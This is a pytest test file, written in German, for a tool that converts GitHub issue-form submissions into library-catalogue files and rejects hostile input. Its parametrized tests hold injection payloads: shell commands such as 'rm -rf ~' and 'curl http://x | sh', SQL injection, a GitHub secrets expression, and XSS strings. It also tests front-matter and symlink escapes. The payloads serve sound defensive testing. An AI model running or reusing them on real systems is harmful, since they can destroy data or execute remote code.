"""``catalogue from-issue``: form issues as GitHub renders them become valid files – and
hostile or broken ones become German error comments, never files."""

from __future__ import annotations

import datetime as dt
import json
import subprocess
import sys
from pathlib import Path

import pytest
from catalogue_files import write_catalogue

from generator import issues
from generator.cli import main
from generator.loading import load_catalogue, load_taxonomy

TODAY = dt.date(2026, 11, 23)


def render(form: issues.Form, answers: dict[str, str]) -> str:
    """The Markdown GitHub writes for a submitted issue form."""
    parts = []
    for element in form.elements:
        value = answers.get(element.id, "")
        if element.type == "checkboxes":
            value = "\n".join(f"- [{'X' if value else ' '}] {option}" for option in element.options)
        parts.append(f"### {element.label}\n\n{value or issues.NO_RESPONSE}")
    return "\n\n".join(parts)


MEASURE = {
    "title": "Bücherkiste für die Kita",
    "summary": "Jeden Monat bringt die Bücherei eine Kiste mit Bilderbüchern in die Kita.",
    "libraries": "musterdorf",
    "topics": "Leseförderung (lesefoerderung), Schule und Kita (schule-kita)",
    "audiences": "Kinder (kinder)",
    "status": "laufend (running)",
    "period_start": "2024-09",
    "effort_level": "gering (low)",
    "staff_hours": "24",
    "budget_eur": "80.50",
    "partners": "Kita Regenbogen\nFörderverein",
    "outcomes": "Ausgeliehene Bücher: 420\nBeteiligte Gruppen: 3",
    "links": "Flyer: https://example.org/flyer.pdf",
    "situation": "Die Kita liegt weit weg von der Bücherei.",
    "implementation": (
        "Wir packen jeden Monat eine Kiste.\n\n### Was in die Kiste kommt\n\n- 30 Bücher"
    ),
    "results": "Mehr Familien kommen in die Bücherei.",
    "tips": "Kisten mit Rollen kaufen.",
    "collaboration": "",
    "consent": "x",
}

LIBRARY = {
    "name": "Gemeindebücherei Neudorf",
    "kind": "Bibliothek (library)",
    "municipality": "Neudorf",
    "state": "Hessen",
    "population": "2300",
    "area_m2": "90",
    "staff_fte": "0.5",
    "volunteers": "4",
    "website": "https://www.neudorf.example/buecherei",
    "email": "buecherei@neudorf.example",
    "email_public": "x",
    "toolkit_date": "2025-02-01",
    "toolkit_priorities": "Leseförderung (lesefoerderung), Ehrenamt (ehrenamt)",
    "about": "Kleine Bücherei im **Dorfgemeinschaftshaus**.",
    "consent": "x",
}


@pytest.fixture
def root(tmp_path: Path) -> Path:
    return write_catalogue(tmp_path)


def submit(root: Path, body: str, **kw) -> issues.Submission:
    taxonomy, _ = load_taxonomy(root)
    return issues.submission_from_issue(body, root, taxonomy, today=TODAY, **kw)


def forms(root: Path) -> tuple[issues.Form, issues.Form]:
    taxonomy, _ = load_taxonomy(root)
    return issues.measure_form(taxonomy), issues.library_form(taxonomy)


def test_realistic_measure_becomes_a_valid_file(root):
    measure_form, _ = forms(root)
    result = submit(root, render(measure_form, MEASURE))
    assert result.errors == []
    assert result.path == "measures/buecherkiste-fuer-die-kita.md"
    (root / result.path).write_text(result.text, encoding="utf-8")
    loaded = load_catalogue(root)
    assert loaded.problems.errors == []
    measure = loaded.catalogue.measures["buecherkiste-fuer-die-kita"]
    assert measure.title == "Bücherkiste für die Kita"
    assert measure.topics == ["lesefoerderung", "schule-kita"]
    assert measure.status == "running"
    assert measure.published == TODAY
    assert measure.effort.budget_eur == 80.5
    assert [o.value for o in measure.outcomes] == [420, 3]
    assert measure.materials[0].url == "https://example.org/flyer.pdf"
    assert "### Was in die Kiste kommt" in measure.body  # a heading of the contributor's own
    assert result.text.splitlines()[1].startswith("# yaml-language-server: $schema=")


def test_realistic_library_becomes_a_valid_file(root):
    _, library_form = forms(root)
    result = submit(root, render(library_form, LIBRARY).replace("\n", "\r\n"))  # CRLF as sent
    assert result.errors == [], result.errors
    assert result.path == "libraries/gemeindebuecherei-neudorf.yml"
    (root / result.path).write_text(result.text, encoding="utf-8")
    loaded = load_catalogue(root)
    assert loaded.problems.errors == []
    library = loaded.catalogue.libraries["gemeindebuecherei-neudorf"]
    assert (library.population, library.staff_fte, library.state) == (2300, 0.5, "Hessen")
    assert library.email == "buecherei@neudorf.example"
    assert library.toolkit.priorities == ["lesefoerderung", "ehrenamt"]


def test_pasted_invisible_line_separators_become_line_breaks(root):
    _, library_form = forms(root)
    answers = {**LIBRARY, "about": "Erste Zeile\u2028zweite Zeile\u2029dritte\x85vierte"}
    result = submit(root, render(library_form, answers))
    assert result.errors == [], result.errors
    (root / result.path).write_text(result.text, encoding="utf-8")
    loaded = load_catalogue(root)
    assert loaded.problems.errors == []
    about = loaded.catalogue.libraries["gemeindebuecherei-neudorf"].about
    assert about == "Erste Zeile\nzweite Zeile\ndritte\nvierte"


def test_invalid_answers_get_german_errors_named_by_form_field(root):
    measure_form, _ = forms(root)
    answers = {**MEASURE, "libraries": "musterdorff", "staff_hours": "1.200,5",
               "summary": "x" * 301, "period_end": "2023-01"}  # fmt: skip
    result = submit(root, render(measure_form, answers))
    text = "\n".join(result.errors)
    assert "Bibliothek: Bibliothek „musterdorff“ gibt es nicht – meinten Sie „musterdorf“?" in text
    assert "Zusammenfassung: „summary“ ist 301 Zeichen lang" in text
    assert "Arbeitsstunden insgesamt:" in text
    assert "Ende: Das Ende (2023-01) liegt vor dem Beginn (2024-09)." in text
    assert not result.valid


def test_missing_required_answers_and_consent(root):
    measure_form, _ = forms(root)
    result = submit(root, render(measure_form, {**MEASURE, "topics": "", "consent": ""}))
    assert "„Themen“ ist ein Pflichtfeld, aber leer." in result.errors
    assert "Das Einverständnis zur Veröffentlichung fehlt." in result.errors


def test_existing_id_is_not_overwritten(root):
    measure_form, _ = forms(root)
    result = submit(root, render(measure_form, {**MEASURE, "title": "Lesesommer"}))
    assert any("„lesesommer“ gibt es schon (measures/lesesommer.md)" in e for e in result.errors)
    assert not result.valid


@pytest.mark.parametrize(
    "title",
    [
        "$(rm -rf ~) `id` ; echo pwned && curl http://x | sh",
        'Titel" ; touch /tmp/pwned ; echo "',
        "--help",
        "'; DROP TABLE measures; --",
        "${{ secrets.GITHUB_TOKEN }}",
    ],
)
def test_shell_metacharacters_are_plain_text(root, tmp_path, title):
    measure_form, _ = forms(root)
    result = submit(root, render(measure_form, {**MEASURE, "title": title}))
    assert result.errors == [], result.errors
    (root / result.path).write_text(result.text, encoding="utf-8")
    loaded = load_catalogue(root)
    assert loaded.problems.errors == []
    assert loaded.catalogue.measures[result.id].title == title
    assert "/" not in result.id and result.id == result.id.strip("-")


@pytest.mark.parametrize(
    ("field", "value", "expected"),
    [
        ("situation", "<script>alert(1)</script>", "<script>"),
        ("implementation", '<img src=x onerror="alert(1)">', "HTML"),
        ("results", "[Klick](javascript:alert(document.cookie))", "javascript"),
        ("tips", "[x](data:text/html;base64,PHNjcmlwdD4=)", "data"),
    ],
)
def test_html_and_dangerous_links_are_refused(root, field, value, expected):
    measure_form, _ = forms(root)
    result = submit(root, render(measure_form, {**MEASURE, field: value}))
    assert not result.valid
    assert any(expected in e for e in result.errors), result.errors


def test_markdown_injection_cannot_break_out_of_the_front_matter(root):
    measure_form, _ = forms(root)
    sneaky = "Echt\n---\nstatus: completed\nlibraries: [verbund]\n---\n# Übernommen"
    answers = {**MEASURE, "summary": sneaky, "partners": "A\n---\nB: [x]"}
    result = submit(root, render(measure_form, answers))
    assert result.errors == [], result.errors
    (root / result.path).write_text(result.text, encoding="utf-8")
    measure = load_catalogue(root).catalogue.measures[result.id]
    assert measure.status == "running" and measure.libraries == ["musterdorf"]
    assert measure.summary.startswith("Echt --- status: completed")
    assert measure.partners == ["A", "B: [x]"]


def test_a_heading_of_the_form_inside_an_answer_is_refused(root):
    measure_form, _ = forms(root)
    answers = {**MEASURE, "situation": "Text\n\n### Bibliothek\n\nverbund"}
    result = submit(root, render(measure_form, answers))
    assert any("„### Bibliothek“ kommt 2-mal vor" in e for e in result.errors)
    assert not result.path


def test_oversized_body_is_refused(root):
    measure_form, _ = forms(root)
    body = render(measure_form, {**MEASURE, "situation": "Sehr lang. " * 7000})
    result = submit(root, body)
    assert any("höchstens 65.536" in e for e in result.errors)
    assert not result.path


def test_oversized_field_is_reported(root):
    measure_form, _ = forms(root)
    result = submit(root, render(measure_form, {**MEASURE, "title": "Lesen " * 30}))
    assert any("Titel der Maßnahme: „title“ ist 179 Zeichen lang" in e for e in result.errors)


def test_body_edited_after_the_label_is_not_taken_over(root):
    measure_form, _ = forms(root)
    labelled = render(measure_form, MEASURE)
    edited = labelled.replace("Kita Regenbogen", "Kita Regenbogen\nhttps://spam.example")
    result = submit(root, labelled, current_body=edited)
    assert not result.valid
    assert "nachdem das Label „uebernehmen“ gesetzt wurde" in result.errors[0]
    # Line endings or trailing blanks alone are no edit.
    assert submit(root, labelled, current_body=labelled.replace("\n", "\r\n") + "\n").valid


def test_issue_not_from_a_form(root):
    result = submit(root, "Hallo, wir haben eine tolle Idee! <b>Bitte übernehmen</b>")
    assert not result.valid
    assert "nicht aus dem Formular" in result.errors[0]


def test_error_comment_keeps_contributor_text_inert():
    submission = issues.Submission(
        errors=["Titel: „@redaktion ```` [x](https://evil.example) <img src=x>“ ist zu lang"]
    )
    comment = issues.error_comment(submission)
    block = comment.split("```text\n", 1)[1].split("\n```", 1)[0]
    assert "@redaktion" in block and "`" not in block  # inside the fence: no mention, no link
    assert comment.count("```") == 2


# --- the command, as the workflow runs it ----------------------------------------------------


def event_file(tmp_path: Path, body: str, number: int = 42) -> Path:
    path = tmp_path / "event.json"
    issue = {"number": number, "body": body, "labels": [{"name": "einreichung"}]}
    event = {"action": "labeled", "label": {"name": "uebernehmen"}, "issue": issue}
    path.write_text(json.dumps(event), encoding="utf-8")
    return path


def test_command_writes_file_outputs_and_pull_request_texts(root, tmp_path):
    measure_form, _ = forms(root)
    body = render(measure_form, MEASURE)
    out, outputs = tmp_path / "out", tmp_path / "github-output"
    current = tmp_path / "current.md"
    current.write_text(body, encoding="utf-8")
    code = main(["from-issue", "--root", str(root), "--event", str(event_file(tmp_path, body)),
                 "--current-body-file", str(current), "--write", "--out-dir", str(out),
                 "--github-output", str(outputs), "--today", "2026-11-23"])  # fmt: skip
    assert code == 0
    assert (root / "measures/buecherkiste-fuer-die-kita.md").is_file()
    assert outputs.read_text(encoding="utf-8").splitlines() == [
        "valid=true",
        "path=measures/buecherkiste-fuer-die-kita.md",
        "branch=einreichung/issue-42-buecherkiste-fuer-die-kita",
    ]
    title = (out / "pr-title.txt").read_text(encoding="utf-8")
    assert title == "Maßnahme: Bücherkiste für die Kita"
    assert "Closes #42" in (out / "pr-body.md").read_text(encoding="utf-8")
    assert load_catalogue(root).problems.errors == []


def test_command_writes_the_error_comment_and_no_file(root, tmp_path):
    measure_form, _ = forms(root)
    body = render(measure_form, {**MEASURE, "situation": "<script>alert(1)</script>"})
    out, outputs = tmp_path / "out", tmp_path / "github-output"
    code = main(["from-issue", "--root", str(root), "--event", str(event_file(tmp_path, body)),
                 "--write", "--out-dir", str(out), "--github-output", str(outputs)])  # fmt: skip
    assert code == 1
    assert outputs.read_text(encoding="utf-8") == "valid=false\n"
    assert "Ausgangslage:" in (out / "comment.md").read_text(encoding="utf-8")
    assert not (root / "measures/buecherkiste-fuer-die-kita.md").exists()


def test_command_as_a_subprocess_with_a_body_file(root, tmp_path):
    _, library_form = forms(root)
    body = tmp_path / "body.md"
    body.write_text(render(library_form, LIBRARY), encoding="utf-8")
    result = subprocess.run(
        [sys.executable, "-m", "generator", "from-issue", "--root", str(root),
         "--body-file", str(body)],
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("# yaml-language-server: $schema=../schema/library.schema.json")
    assert "Traceback" not in result.stderr


def test_command_usage_errors(root, tmp_path):
    assert main(["from-issue", "--root", str(root), "--body-file", str(tmp_path / "nix")]) == 2


# --- checked against the real catalogue, never through its links ------------------------


def test_a_near_duplicate_of_an_existing_measure_is_warned_as_in_validate(root):
    measure_form, _ = forms(root)
    body = render(measure_form, {**MEASURE, "title": "Lesesommer mit den Grundschulen"})
    submission = submit(root, body)
    assert submission.valid, submission.errors
    assert any("ähnelt sehr dem der Maßnahme „lesesommer“" in w for w in submission.warnings)


def test_references_are_checked_against_the_real_catalogue(root):
    measure_form, _ = forms(root)
    body = render(measure_form, {**MEASURE, "libraries": "musterdorf, gibts-nicht"})
    errors = submit(root, body).errors
    assert any("gibts-nicht" in e for e in errors), errors


def test_a_dangling_link_in_the_place_of_the_new_file_is_not_written_through(root, tmp_path):
    outside = tmp_path / "ausserhalb.md"
    (root / "measures/buecherkiste-fuer-die-kita.md").symlink_to(outside)
    measure_form, _ = forms(root)
    submission = submit(root, render(measure_form, MEASURE))
    assert not submission.valid
    assert "gibt es schon" in submission.errors[0]
    assert not outside.exists()


def test_a_link_in_the_catalogue_is_not_followed_when_checking(root, tmp_path):
    secret = tmp_path / "geheim.yml"
    secret.write_text("name: Geheim\n", encoding="utf-8")
    (root / "libraries/geheim.yml").symlink_to(secret)
    _, library_form = forms(root)
    submission = submit(root, render(library_form, LIBRARY))
    assert submission.valid, submission.errors
    assert secret.read_text(encoding="utf-8") == "name: Geheim\n"


@pytest.mark.parametrize("broken", ["\ud800", "\udfff", "a\udc80b"])
def test_half_a_character_pair_is_a_german_error_not_a_traceback(root, tmp_path, broken):
    measure_form, _ = forms(root)
    body = render(measure_form, {**MEASURE, "situation": f"Text {broken} mehr"})
    out = tmp_path / "out"
    code = main(["from-issue", "--root", str(root), "--event", str(event_file(tmp_path, body)),
                 "--write", "--out-dir", str(out)])  # fmt: skip
    assert code == 1
    assert "unvollständiges Zeichen" in (out / "comment.md").read_text(encoding="utf-8")


def test_unreadable_input_is_a_german_usage_error(root, tmp_path, capsys):
    not_utf8 = tmp_path / "body.md"
    not_utf8.write_bytes(b"\xff\xfe kaputt")
    assert main(["from-issue", "--root", str(root), "--body-file", str(not_utf8)]) == 2
    assert "kein UTF-8-Text" in capsys.readouterr().err
